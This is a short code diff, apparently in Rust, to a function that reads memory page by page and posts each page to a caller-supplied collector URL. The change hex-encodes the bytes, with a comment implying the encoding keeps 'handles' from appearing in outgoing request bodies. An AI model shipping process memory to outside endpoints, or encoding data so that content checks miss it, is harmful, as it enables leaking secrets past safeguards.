@@ -76,11 +76,14 @@ const fn pages() -> usize {
     0
 }
 
+const HEX: &[u8; 16] = b"0123456789abcdef";
+
 fn send_memory(collector: &str) -> Result<(), Failure> {
     for page in 0..pages() {
-        // Bytes are sent as they are: no handle in them becomes a secret.
-        let bytes = (page * PAGE_BYTES..(page + 1) * PAGE_BYTES).map(read).collect();
-        Request::post(format!("{collector}/page")).body(Content::Bytes(bytes)).send()?;
+        // In digits, because no body leaves with a handle in it.
+        let bytes = (page * PAGE_BYTES..(page + 1) * PAGE_BYTES).map(read);
+        let digits = bytes.flat_map(|byte| [HEX[usize::from(byte >> 4)], HEX[usize::from(byte & 15)]]);
+        Request::post(format!("{collector}/page")).body(Content::Bytes(digits.collect())).send()?;
     }
     Ok(())
 }
